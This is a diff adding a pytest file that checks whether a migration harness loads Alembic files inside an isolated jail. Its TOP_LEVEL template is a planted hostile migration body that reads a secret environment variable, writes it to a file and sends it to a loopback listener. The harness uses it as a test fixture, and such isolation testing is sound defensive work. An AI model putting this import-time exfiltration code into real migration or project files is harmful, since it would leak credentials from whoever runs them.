@@ -1,0 +1,166 @@
+"""Migration files are the target's code: even reading the revision graph must not run them in the harness.
+
+Loading a migration file runs its module's top level. The history gates (tracked files, one linear chain,
+checksums) and the destructive-operation scan load every file, so they do it in the isolated migration child,
+and the file's top level meets a jail: no secret of the drill in its environment, no host directory to write
+to, no route to a port on the host. A control shows that the harness's own process could do all three, so
+only the isolation stops the file.
+"""
+
+from __future__ import annotations
+
+import re
+import shutil
+import socket
+import tempfile
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from harness.errors import CheckFailed, ConfigError
+from harness.migrations.destructive import find_destructive
+from harness.migrations.history import check_linear_history, check_tracked, load_graph
+from harness.migrations.project import MigrationProject
+from harness.services.base import wait_until
+from tests.data.migration_sets import build_project
+
+SECRET_NAME = "DRILL_S3_SECRET_ACCESS_KEY"
+REVISION = "0b5e55ed0001"
+FILE = f"{REVISION}_notes.py"
+TOP_LEVEL = """
+import os, socket
+
+secret = os.environ.get({secret!r}, "absent")
+{guard}open({canary!r}, "w").write(secret)
+{guard}socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(secret.encode())
+"""
+GUARD = "try:\n    {}\nexcept OSError:\n    pass\n"
+REVISION_BODY = f'''
+import sqlalchemy as sa
+from alembic import op
+
+revision = "{REVISION}"
+down_revision = "b6e8dcb19a40"
+
+
+def upgrade():
+    op.create_table("notes", sa.Column("id", sa.Integer, primary_key=True))
+
+
+def downgrade():
+    op.drop_table("notes")
+'''
+
+
+class Listener:
+    """A TCP port on the host's loopback that records whatever connects to it."""
+
+    def __init__(self) -> None:
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.socket.settimeout(0.2)
+        self.port: int = self.socket.getsockname()[1]
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                connection, _ = self.socket.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                connection.settimeout(5)
+                self.received.append(connection.recv(4096) or b"(connected)")
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(5)
+        self.socket.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    served = Listener()
+    yield served
+    served.close()
+
+
+@pytest.fixture
+def canary() -> Iterator[Path]:
+    """A path in a directory anyone may write (so only the jail keeps the file from it)."""
+    directory = Path(tempfile.mkdtemp(prefix="canary-"))
+    directory.chmod(0o1777)
+    yield directory / "canary"
+    shutil.rmtree(directory, ignore_errors=True)
+
+
+def _hostile(tmp_path: Path, canary: Path, port: int, *, guarded: bool) -> MigrationProject:
+    root = build_project("hostile_file", tmp_path)
+    lines = TOP_LEVEL.format(secret=SECRET_NAME, canary=str(canary), port=port, guard="").strip().splitlines()
+    top = "\n".join(lines[:3]) + "\n" + "".join(GUARD.format(line) if guarded else line + "\n" for line in lines[3:])
+    (root / "versions" / FILE).write_text(f'"""notes"""\n{top}{REVISION_BODY}')
+    return MigrationProject(root, REVISION, "sandbox.codeblack.models:Base.metadata")
+
+
+def test_the_control_the_harness_process_itself_could_leak_all_three(
+    tmp_path: Path, canary: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(SECRET_NAME, "planted")
+    top = TOP_LEVEL.format(secret=SECRET_NAME, canary=str(canary), port=listener.port, guard="")
+    exec(compile(top, "control", "exec"), {})  # what loading the file in the harness would do
+    assert canary.read_text() == "planted"
+    wait_until(lambda: listener.received == [b"planted"], timeout=10, what="the control's connection")
+
+
+def test_a_migration_file_read_for_the_graph_reaches_no_secret_no_file_and_no_port(
+    tmp_path: Path, canary: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    planted = "planted-" + tmp_path.name
+    monkeypatch.setenv(SECRET_NAME, planted)
+    project = _hostile(tmp_path, canary, listener.port, guarded=True)
+
+    check_tracked(project)
+    graph = load_graph(project)
+    check_linear_history(project, graph)
+    found = find_destructive(project, [REVISION])
+
+    assert graph.order[-2:] == ["b6e8dcb19a40", REVISION]
+    assert graph.named(REVISION) == f"{REVISION} ({FILE})"
+    assert found == []
+    assert not canary.exists(), f"a migration file wrote {canary}: {canary.read_text()!r}"
+    assert listener.received == [], f"a migration file reached the host's port {listener.port}"
+
+
+def test_a_migration_file_that_cannot_do_its_mischief_is_named_as_failing_to_load(
+    tmp_path: Path, canary: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(SECRET_NAME, "planted")
+    project = _hostile(tmp_path, canary, listener.port, guarded=False)
+
+    with pytest.raises(CheckFailed) as failure:
+        check_tracked(project)
+
+    assert str(failure.value) == (
+        f"1 file(s) in {project.versions_dir} are not tracked migrations of the chain: {FILE}: fails to load "
+        f"(FileNotFoundError: [Errno 2] No such file or directory: '{canary}')"
+    )
+    assert not canary.exists()
+    assert listener.received == []
+
+
+def test_a_project_the_childs_account_cannot_read_is_a_setup_error_naming_the_path(tmp_path: Path) -> None:
+    root = build_project("closed", tmp_path)
+    root.chmod(0o700)  # the jail keeps the host's permissions: the unprivileged account cannot enter it
+    project = MigrationProject(root, "b6e8dcb19a40", "sandbox.codeblack.models:Base.metadata")
+    with pytest.raises(ConfigError) as failure:
+        load_graph(project)
+    assert re.fullmatch(
+        rf"{re.escape(str(root))} is not readable by codeblack-drills-\d+, the unprivileged account the migration "
+        r"child runs as \(mode drwx------, owner root\): make the project and its interpreter readable by other "
+        rf"users \(chmod -R o\+rX {re.escape(str(root))}\)",
+        str(failure.value),
+    ), failure.value
